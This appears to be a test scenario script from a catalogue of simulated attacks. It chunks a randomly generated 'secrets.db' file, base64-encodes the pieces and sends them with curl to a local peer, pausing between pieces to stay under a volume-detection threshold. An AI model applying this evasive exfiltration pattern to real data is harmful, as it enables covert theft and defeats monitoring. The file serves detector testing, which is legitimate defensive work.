#!/usr/bin/env bash
# Sends its own made files in small pieces, spread over time, to stay under a volume threshold.
# attack_type: exfiltration
# severity: 0.7
# arguments: PIECES BYTES PAUSE
# variants: 16 4000 0.5 | 35 20000 0.2 | 9 1500 1.2
# needs: curl split
head -c $(($1 * $2)) /dev/urandom > secrets.db
split -b "$2" secrets.db piece.
for piece in piece.*; do
  base64 -w 0 "$piece" | curl -s -o answer --data-binary @- "http://127.0.0.1:$PEER/p"
  rm "$piece"
  sleep "$3"
done
